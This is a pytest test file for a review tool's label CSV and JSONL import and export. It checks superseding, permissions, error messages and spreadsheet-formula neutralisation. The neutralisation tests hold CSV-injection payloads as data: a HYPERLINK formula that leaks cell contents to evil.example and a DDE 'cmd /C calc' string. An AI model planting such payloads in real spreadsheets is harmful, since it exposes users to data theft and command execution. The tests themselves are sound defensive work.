"""Label CSV import and export (docs/reference.md, "Label CSV") on SQLite and PostgreSQL.

Every test starts from the demo set (17 cases, ana/ben/chloe, olivia, 333 labels),
so the files tried here refer to real cases and turns. A rejected file must leave
the database exactly as it was: same labels, no new reviewers.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import Engine, select
from sqlmodel import Session, col

from review_app.errors import InputError, PermissionDenied
from review_app.services.access.actors import Actor, operator_actor, sign_in
from review_app.services.exchange.demo import DEMO_LABELS, load_demo
from review_app.services.exchange.labels_io import (
    LABEL_COLUMNS,
    export_labels_csv,
    import_labels,
    neutralise_cell,
    restore_cell,
)
from review_app.services.labels.labeling import record_label
from review_app.services.rubrics.rubric_catalog import RubricCatalog, sync_rubrics
from review_app.services.team.people import add_person, list_people
from storage.migrations.upgrade import upgrade_database
from storage.models import Label, Reviewer
from tests.builders import write_label_csv
from tests.conftest import Database, label_count

RUBRIC = "role-adherence@1"
CASE = "support-clean-late-parcel"  # assistant turns 2, 4, ..., 12; user turns 1, 3, ...
DEMO_LABEL_COUNT = 333


def label_rows(
    engine: Engine, *, case_id: str, turn: int, reviewer: str
) -> list[tuple[str, str | None, bool]]:
    """(code, rationale, current) of every label a reviewer gave one turn, oldest first."""
    with Session(engine) as session:
        query = (
            select(col(Label.code), col(Label.rationale), col(Label.current))
            .join(Reviewer, col(Reviewer.id) == col(Label.reviewer_id))
            .where(
                col(Label.case_id) == case_id,
                col(Label.turn) == turn,
                col(Reviewer.name) == reviewer,
            )
            .order_by(col(Label.id))
        )
        return [(row[0], row[1], row[2]) for row in session.execute(query)]


def people(engine: Engine) -> dict[str, str]:
    return {person.name: person.role for person in list_people(engine)}


@pytest.fixture
def demo(database: Database) -> Database:
    report = load_demo(database.engine, operator_actor())
    assert report.labels is not None and report.labels.stored == DEMO_LABEL_COUNT
    return database


@pytest.fixture
def catalog(demo: Database) -> RubricCatalog:
    return sync_rubrics(demo.engine, operator_actor())


# --- importing the demo file, idempotence, superseding ----------------------------------


def test_demo_labels_import_into_the_database(demo: Database) -> None:
    assert label_count(demo.engine) == DEMO_LABEL_COUNT
    with DEMO_LABELS.open(encoding="utf-8", newline="") as handle:
        expected = {
            (
                row["case_id"],
                int(row["turn"]),
                row["reviewer"],
                row["label"],
                row["rationale"] or None,
            )
            for row in csv.DictReader(handle)
        }
    exported = csv.DictReader(
        io.StringIO(
            export_labels_csv(
                demo.engine,
                operator_actor(),
                rubric=sync_rubrics(demo.engine, operator_actor()).get(RUBRIC),
            )
        )
    )
    stored = {
        (row["case_id"], int(row["turn"]), row["reviewer"], row["label"], row["rationale"] or None)
        for row in exported
    }
    assert stored == expected
    assert len(expected) == DEMO_LABEL_COUNT


def test_reimporting_the_same_file_changes_nothing(demo: Database, catalog: RubricCatalog) -> None:
    summary = import_labels(demo.engine, Actor.operator(), DEMO_LABELS, catalog=catalog)
    assert (summary.rows, summary.stored, summary.unchanged, summary.reviewers_created) == (
        DEMO_LABEL_COUNT,
        0,
        DEMO_LABEL_COUNT,
        0,
    )
    assert summary.line() == (
        f"read {DEMO_LABEL_COUNT} labels: stored 0, unchanged {DEMO_LABEL_COUNT}, new reviewers 0"
    )
    assert label_count(demo.engine) == DEMO_LABEL_COUNT


def test_a_changed_label_supersedes_and_keeps_the_history(
    demo: Database, catalog: RubricCatalog, tmp_path: Path
) -> None:
    assert label_rows(demo.engine, case_id=CASE, turn=2, reviewer="ana") == [
        ("in_role", None, True)
    ]
    path = write_label_csv(
        tmp_path / "change.csv",
        [
            (CASE, 2, "ana", "tone_break", RUBRIC, "Too curt with an upset customer."),
            (CASE, 4, "ana", "in_role", RUBRIC, ""),  # what ana already has
        ],
    )
    summary = import_labels(demo.engine, Actor.operator(), path, catalog=catalog)
    assert (summary.stored, summary.unchanged) == (1, 1)
    assert label_rows(demo.engine, case_id=CASE, turn=2, reviewer="ana") == [
        ("in_role", None, False),
        ("tone_break", "Too curt with an upset customer.", True),
    ]
    assert label_count(demo.engine) == DEMO_LABEL_COUNT + 1
    # A new rationale alone is a change too; the same file again is not.
    path = write_label_csv(
        tmp_path / "rationale.csv", [(CASE, 2, "ana", "tone_break", RUBRIC, "Curt.")]
    )
    assert import_labels(demo.engine, Actor.operator(), path, catalog=catalog).stored == 1
    assert import_labels(demo.engine, Actor.operator(), path, catalog=catalog).stored == 0
    history = label_rows(demo.engine, case_id=CASE, turn=2, reviewer="ana")
    assert [current for *_, current in history] == [False, False, True]


def test_reviewers_named_in_the_file_are_created_as_reviewers(
    demo: Database, catalog: RubricCatalog, tmp_path: Path
) -> None:
    assert "dora" not in people(demo.engine)
    path = write_label_csv(
        tmp_path / "dora.csv",
        [(CASE, 2, "dora", "in_role", RUBRIC, ""), (CASE, 4, "dora", "scope_break", RUBRIC, "")],
    )
    summary = import_labels(demo.engine, Actor.operator(), path, catalog=catalog)
    assert (summary.stored, summary.reviewers_created) == (2, 1)
    assert people(demo.engine)["dora"] == "reviewer"
    # An existing reviewer keeps the role they have.
    path = write_label_csv(tmp_path / "olivia.csv", [(CASE, 2, "olivia", "in_role", RUBRIC, "")])
    assert (
        import_labels(demo.engine, Actor.operator(), path, catalog=catalog).reviewers_created == 0
    )
    assert people(demo.engine)["olivia"] == "policy_owner"


# --- export ------------------------------------------------------------------------------


def test_export_import_into_a_fresh_database_gives_the_same_bytes(
    demo: Database, catalog: RubricCatalog, tmp_path: Path, sqlite_database: Database
) -> None:
    # Values a spreadsheet would run are neutralised on export; the round trip keeps them.
    tricky = write_label_csv(
        tmp_path / "tricky.csv",
        [
            (CASE, 2, "ana", "tone_break", RUBRIC, '=HYPERLINK("http://example.com","x")'),
            (CASE, 4, "ben", "scope_break", RUBRIC, "- drifts into shipping law"),
            (CASE, 6, "@dora", "in_role", RUBRIC, "+1 fine"),
            # A cell that starts with ' before a formula character is read as quoted.
            (CASE, 10, "ben", "in_role", RUBRIC, "'@here"),
        ],
    )
    import_labels(demo.engine, Actor.operator(), tricky, catalog=catalog)
    assert label_rows(demo.engine, case_id=CASE, turn=10, reviewer="ben")[-1][1] == "@here"
    rubric = catalog.get(RUBRIC)
    # A rationale typed in the app that itself starts with ' and a formula character.
    chloe = sign_in(demo.engine, name="chloe", auth_mode="oidc")
    record_label(
        demo.engine,
        chloe,
        case_id=CASE,
        turn=8,
        rubric=rubric,
        code="borderline",
        rationale="'=already quoted",
    )
    exported = export_labels_csv(demo.engine, operator_actor(), rubric=rubric)
    assert exported.splitlines()[0] == ",".join(LABEL_COLUMNS)
    assert len(exported.splitlines()) == 1 + DEMO_LABEL_COUNT + 1  # dora's label is new
    assert f"{CASE},8,chloe,borderline,{RUBRIC},''=already quoted" in exported.splitlines()
    assert f"{CASE},6,'@dora,in_role,{RUBRIC},'+1 fine" in exported.splitlines()

    # Another database with the same cases (SQLite; the source is SQLite or PostgreSQL).
    fresh = sqlite_database if demo.kind == "postgres" else _second_sqlite(tmp_path)
    from review_app.services.cases.importing import import_paths
    from tests.conftest import DEMO_CASES

    import_paths(fresh.engine, operator_actor(), [DEMO_CASES])
    fresh_catalog = sync_rubrics(fresh.engine, operator_actor())
    path = tmp_path / "export.csv"
    path.write_text(exported, encoding="utf-8")
    summary = import_labels(fresh.engine, Actor.operator(), path, catalog=fresh_catalog)
    assert summary.stored == DEMO_LABEL_COUNT + 1
    assert (
        export_labels_csv(fresh.engine, operator_actor(), rubric=fresh_catalog.get(RUBRIC)).encode()
        == exported.encode()
    )
    assert label_rows(fresh.engine, case_id=CASE, turn=2, reviewer="ana")[-1][1] == (
        '=HYPERLINK("http://example.com","x")'
    )
    assert label_rows(fresh.engine, case_id=CASE, turn=6, reviewer="@dora") == [
        ("in_role", "+1 fine", True)
    ]
    assert label_rows(fresh.engine, case_id=CASE, turn=8, reviewer="chloe")[-1][1] == (
        "'=already quoted"
    )
    # And importing an export into the database it came from changes nothing.
    again = import_labels(demo.engine, Actor.operator(), path, catalog=catalog)
    assert (again.stored, again.unchanged, again.reviewers_created) == (0, DEMO_LABEL_COUNT + 1, 0)


def _second_sqlite(tmp_path: Path) -> Database:
    from storage.engine import create_database_engine

    url = f"sqlite:///{tmp_path / 'fresh.db'}"
    engine = create_database_engine(url)
    upgrade_database(engine)
    return Database("sqlite", url, engine)


def test_export_neutralises_formula_cells(
    demo: Database, catalog: RubricCatalog, tmp_path: Path
) -> None:
    rationales = {
        2: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        4: "+cmd|' /C calc'!A0",
        6: "-2+3",
        8: "@SUM(1,2)",
        10: "plain text = fine",
    }
    path = write_label_csv(
        tmp_path / "formulas.csv",
        [(CASE, turn, "ana", "borderline", RUBRIC, text) for turn, text in rationales.items()],
    )
    import_labels(demo.engine, Actor.operator(), path, catalog=catalog)
    rows = list(
        csv.DictReader(
            io.StringIO(
                export_labels_csv(demo.engine, operator_actor(), rubric=catalog.get(RUBRIC))
            )
        )
    )
    exported = {
        int(r["turn"]): r["rationale"]
        for r in rows
        if r["case_id"] == CASE and r["reviewer"] == "ana"
    }
    for turn, text in rationales.items():
        expected = text if turn == 10 else "'" + text
        assert exported[turn] == expected
    assert exported[2] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise_cell(f"{start}x") == f"'{start}x"
    assert neutralise_cell("x=1") == "x=1"
    assert neutralise_cell("") == ""
    assert neutralise_cell("'=x") == "''=x"
    assert neutralise_cell("'tis") == "'tis"


@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab ,\""), max_size=8))
def test_restore_cell_undoes_neutralise_cell(value: str) -> None:
    neutral = neutralise_cell(value)
    assert restore_cell(neutral) == value
    assert not neutral.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_export_with_history_has_replaced_labels(
    demo: Database, catalog: RubricCatalog, tmp_path: Path
) -> None:
    path = write_label_csv(tmp_path / "change.csv", [(CASE, 2, "ana", "tone_break", RUBRIC, "")])
    import_labels(demo.engine, Actor.operator(), path, catalog=catalog)
    rubric = catalog.get(RUBRIC)
    current = export_labels_csv(demo.engine, operator_actor(), rubric=rubric).splitlines()
    history = export_labels_csv(
        demo.engine, operator_actor(), rubric=rubric, history=True
    ).splitlines()
    assert len(current) == 1 + DEMO_LABEL_COUNT
    assert len(history) == 1 + DEMO_LABEL_COUNT + 1
    ana_turn_2 = [line for line in history if line.startswith(f"{CASE},2,ana,")]
    assert ana_turn_2 == [f"{CASE},2,ana,in_role,{RUBRIC},", f"{CASE},2,ana,tone_break,{RUBRIC},"]


# --- errors: nothing stored --------------------------------------------------------------

GOOD_ROWS = [
    (CASE, 2, "ana", "tone_break", RUBRIC, "would change ana's label"),
    (CASE, 4, "newcomer", "in_role", RUBRIC, "would create a reviewer"),
]


def bad_row_cases() -> list[tuple[str, tuple[object, ...], str, str]]:
    """(id, bad row, field named, a phrase of the message)."""
    return [
        ("unknown_case", ("no-such-case", 2, "ana", "in_role", RUBRIC, ""), "case_id", "no case"),
        ("unknown_turn", (CASE, 99, "ana", "in_role", RUBRIC, ""), "turn", "no turn 99"),
        ("user_turn", (CASE, 3, "ana", "in_role", RUBRIC, ""), "turn", "user"),
        (
            "unknown_rubric",
            (CASE, 6, "ana", "in_role", "role-adherence@9", ""),
            "rubric",
            "role-adherence@9",
        ),
        ("malformed_rubric", (CASE, 6, "ana", "in_role", "role adherence", ""), "rubric", ""),
        ("unknown_code", (CASE, 6, "ana", "great_answer", RUBRIC, ""), "label", "great_answer"),
        ("turn_not_integer", (CASE, "six", "ana", "in_role", RUBRIC, ""), "turn", "integer"),
        ("turn_decimal", (CASE, "6.0", "ana", "in_role", RUBRIC, ""), "turn", "integer"),
        ("empty_reviewer", (CASE, 6, "", "in_role", RUBRIC, ""), "reviewer", "empty"),
        ("duplicate_unit", (CASE, 2, "ana", "persona_break", RUBRIC, ""), "turn", "line 2"),
    ]


@pytest.mark.parametrize(
    ("bad_row", "field", "phrase"),
    [case[1:] for case in bad_row_cases()],
    ids=[case[0] for case in bad_row_cases()],
)
def test_a_bad_row_names_line_and_field_and_stores_nothing(
    demo: Database,
    catalog: RubricCatalog,
    tmp_path: Path,
    bad_row: tuple[object, ...],
    field: str,
    phrase: str,
) -> None:
    path = write_label_csv(
        tmp_path / "bad.csv", [*GOOD_ROWS, bad_row, (CASE, 8, "ben", "in_role", RUBRIC, "")]
    )
    before = people(demo.engine)
    with pytest.raises(InputError) as raised:
        import_labels(demo.engine, Actor.operator(), path, catalog=catalog)
    error = raised.value
    assert (error.source, error.line, error.field) == (str(path), 4, field)
    assert phrase in error.message
    assert str(error).startswith(f"{path}, line 4, field {field}: ")
    assert "\n" not in str(error)
    assert label_count(demo.engine) == DEMO_LABEL_COUNT
    assert people(demo.engine) == before
    assert label_rows(demo.engine, case_id=CASE, turn=2, reviewer="ana") == [
        ("in_role", None, True)
    ]


@pytest.mark.parametrize(
    ("header", "field", "phrase"),
    [
        (("case_id", "turn", "reviewer", "rubric", "rationale"), "label", "missing column label"),
        (
            ("case_id", "turn", "reviewer", "label", "rubric", "rationale", "score"),
            "score",
            "unknown column",
        ),
    ],
    ids=["missing_column", "unknown_column"],
)
def test_a_bad_header_names_line_1_and_the_column(
    demo: Database,
    catalog: RubricCatalog,
    tmp_path: Path,
    header: tuple[str, ...],
    field: str,
    phrase: str,
) -> None:
    width = len(header)
    path = write_label_csv(
        tmp_path / "header.csv",
        [row[:width] + ("",) * (width - len(row)) for row in GOOD_ROWS],
        header,
    )
    with pytest.raises(InputError) as raised:
        import_labels(demo.engine, Actor.operator(), path, catalog=catalog)
    assert (raised.value.source, raised.value.line, raised.value.field) == (str(path), 1, field)
    assert phrase in raised.value.message
    assert label_count(demo.engine) == DEMO_LABEL_COUNT
    assert "newcomer" not in people(demo.engine)


def test_an_empty_file_and_a_header_only_file_are_refused(
    demo: Database, catalog: RubricCatalog, tmp_path: Path
) -> None:
    empty = tmp_path / "empty.csv"
    empty.write_bytes(b"")
    with pytest.raises(InputError, match="empty") as raised:
        import_labels(demo.engine, Actor.operator(), empty, catalog=catalog)
    assert raised.value.source == str(empty)
    header_only = write_label_csv(tmp_path / "header.csv", [])
    with pytest.raises(InputError, match="no labels"):
        import_labels(demo.engine, Actor.operator(), header_only, catalog=catalog)
    assert label_count(demo.engine) == DEMO_LABEL_COUNT


def test_invalid_utf8_names_the_line_and_stores_nothing(
    demo: Database, catalog: RubricCatalog, tmp_path: Path
) -> None:
    path = write_label_csv(tmp_path / "latin1.csv", GOOD_ROWS)
    path.write_bytes(
        path.read_bytes() + f"{CASE},6,ana,borderline,{RUBRIC},caf".encode() + b"\xe9\n"
    )
    with pytest.raises(InputError, match="UTF-8") as raised:
        import_labels(demo.engine, Actor.operator(), path, catalog=catalog)
    assert (raised.value.source, raised.value.line) == (str(path), 4)
    assert label_count(demo.engine) == DEMO_LABEL_COUNT
    assert "newcomer" not in people(demo.engine)


def test_a_utf8_bom_and_crlf_line_ends_are_accepted(
    demo: Database, catalog: RubricCatalog, tmp_path: Path
) -> None:
    path = tmp_path / "excel.csv"
    text = ",".join(LABEL_COLUMNS) + "\r\n" + f"{CASE},2,ana,tone_break,{RUBRIC},Réponse sèche\r\n"
    path.write_bytes(b"\xef\xbb\xbf" + text.encode())
    assert import_labels(demo.engine, Actor.operator(), path, catalog=catalog).stored == 1
    assert label_rows(demo.engine, case_id=CASE, turn=2, reviewer="ana")[-1] == (
        "tone_break",
        "Réponse sèche",
        True,
    )


# --- who may import what -----------------------------------------------------------------


def test_a_reviewer_imports_only_their_own_labels(
    demo: Database, catalog: RubricCatalog, tmp_path: Path
) -> None:
    ana = sign_in(demo.engine, name="ana", auth_mode="oidc")
    assert ana.role == "reviewer"
    others = write_label_csv(
        tmp_path / "others.csv",
        [(CASE, 2, "ana", "tone_break", RUBRIC, ""), (CASE, 2, "ben", "tone_break", RUBRIC, "")],
    )
    with pytest.raises(PermissionDenied, match="ben"):
        import_labels(demo.engine, ana, others, catalog=catalog)
    assert label_count(demo.engine) == DEMO_LABEL_COUNT
    own = write_label_csv(tmp_path / "own.csv", [(CASE, 2, "ana", "tone_break", RUBRIC, "")])
    assert import_labels(demo.engine, ana, own, catalog=catalog).stored == 1


def test_with_sign_in_only_an_admin_import_creates_reviewers(
    demo: Database, catalog: RubricCatalog, tmp_path: Path
) -> None:
    olivia = sign_in(demo.engine, name="olivia", auth_mode="oidc")
    assert olivia.role == "policy_owner"
    path = write_label_csv(
        tmp_path / "new.csv",
        [(CASE, 2, "ben", "tone_break", RUBRIC, ""), (CASE, 4, "newcomer", "in_role", RUBRIC, "")],
    )
    with pytest.raises(PermissionDenied, match="newcomer"):
        import_labels(demo.engine, olivia, path, catalog=catalog, sign_in_enabled=True)
    assert label_count(demo.engine) == DEMO_LABEL_COUNT
    assert "newcomer" not in people(demo.engine)
    # Without sign-in the same person may; with sign-in an admin may.
    add_person(demo.engine, Actor.operator(), name="root", role="admin")
    root = sign_in(demo.engine, name="root", auth_mode="oidc")
    summary = import_labels(demo.engine, root, path, catalog=catalog, sign_in_enabled=True)
    assert (summary.stored, summary.reviewers_created) == (2, 1)
    # A policy owner's import naming only existing reviewers is fine with sign-in.
    existing = write_label_csv(
        tmp_path / "existing.csv", [(CASE, 6, "chloe", "tone_break", RUBRIC, "")]
    )
    assert (
        import_labels(demo.engine, olivia, existing, catalog=catalog, sign_in_enabled=True).stored
        == 1
    )


# --- JSONL ------------------------------------------------------------------------------


def test_jsonl_labels_import_like_the_csv_and_bad_lines_name_line_and_field(
    demo: Database, catalog: RubricCatalog, tmp_path: Path
) -> None:
    formula = '=HYPERLINK("http://evil.example")'
    rows = [
        {"case_id": CASE, "turn": 2, "reviewer": "newcomer", "label": "in_role", "rubric": RUBRIC},
        # A context key of `export --format jsonl` is ignored; JSONL text is not neutralised.
        {"case_id": CASE, "turn": 4, "reviewer": "newcomer", "label": "in_role", "rubric": RUBRIC,
         "rationale": formula, "verdict": "pass", "actions": ["x"], "gold_label": None},
    ]  # fmt: skip
    path = tmp_path / "labels.jsonl"
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    summary = import_labels(demo.engine, Actor.operator(), path, catalog=catalog)
    assert (summary.rows, summary.stored, summary.reviewers_created) == (2, 2, 1)
    assert label_rows(demo.engine, case_id=CASE, turn=4, reviewer="newcomer") == [
        ("in_role", formula, True)
    ]

    for line, field, bad in [
        (2, "colour", {**rows[0], "colour": "red"}),
        (2, "turn", {**rows[0], "turn": "4x"}),
        (2, "reviewer", {**rows[0], "reviewer": 7}),
    ]:
        broken = tmp_path / f"broken-{field}.jsonl"
        broken.write_text(json.dumps(rows[1]) + "\n" + json.dumps(bad) + "\n", encoding="utf-8")
        with pytest.raises(InputError) as raised:
            import_labels(demo.engine, Actor.operator(), broken, catalog=catalog)
        assert (raised.value.source, raised.value.line, raised.value.field) == (
            str(broken),
            line,
            field,
        )
    assert label_count(demo.engine) == DEMO_LABEL_COUNT + 2
